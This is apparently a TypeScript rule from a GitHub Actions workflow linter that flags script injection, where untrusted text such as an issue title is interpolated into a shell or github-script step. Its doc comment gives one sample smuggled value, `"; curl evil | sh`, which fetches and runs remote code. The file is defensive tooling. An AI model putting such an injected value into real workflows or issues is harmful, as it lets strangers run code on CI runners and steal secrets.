import { namesUsed } from '../../expressions/index.ts';
import type { Step, Template } from '../model.ts';
import { report, type StepGroup, type StepRule } from './rule.ts';
import { expressionsIn, type PlacedExpression } from './texts.ts';
import { untrustedPart } from './untrusted.ts';

/**
 * What a stranger wrote stands inside a script, where the shell takes it for commands: `"; curl evil | sh` as the title
 * of an issue.
 */
export const scriptInjection: StepRule = (group, { source }) =>
  group.steps.flatMap((step) => {
    const script = scriptOf(step);
    if (!script) return [];
    return expressionsIn(script.template, source).flatMap((placed) => {
      const part = untrustedPart(placed.expression) ?? throughVariable(placed, step, group, source);
      if (part === undefined) return [];
      const message = `anyone can write \`${part}\`, and inside a script it becomes commands`;
      const notes = ['${{ }} is filled in before the script starts; quotes around it do not help'];
      return [
        report('error', 'script-injection', message, placed.at, { notes, help: wayOut(part, script.shown) }),
      ];
    });
  });

function scriptOf(step: Step): { template: Template; shown: string } | undefined {
  if (step.kind === 'run') return { template: step.run, shown: '"$VALUE" in the script' };
  if (step.kind !== 'uses' || !/^actions\/github-script@/i.test(step.uses.text)) return undefined;
  const template = Object.entries(step.with).find(([name]) => name.toLowerCase() === 'script')?.[1];
  return template && { template, shown: 'process.env.VALUE in the script' };
}

function wayOut(part: string, shown: string): string {
  return part.startsWith('env.')
    ? `the variable is there already: write "$${part.slice('env.'.length)}" in the script`
    : `put it into the step's \`env: { VALUE: \${{ ${part} }} }\`, and write ${shown}`;
}

/** `${{ env.TITLE }}` where the variable holds what a stranger wrote. */
function throughVariable(
  { expression }: PlacedExpression,
  step: Step,
  group: StepGroup,
  source: string,
): string | undefined {
  for (const { context, path } of namesUsed(expression).references) {
    const [name] = path;
    if (context !== 'env' || name === null || name === undefined) continue;
    const value = [step.env, ...group.env].find((env) => Object.hasOwn(env, name))?.[name];
    const parts = value ? expressionsIn(value, source) : [];
    if (parts.some((part) => untrustedPart(part.expression) !== undefined)) return `env.${name}`;
  }
  return undefined;
}
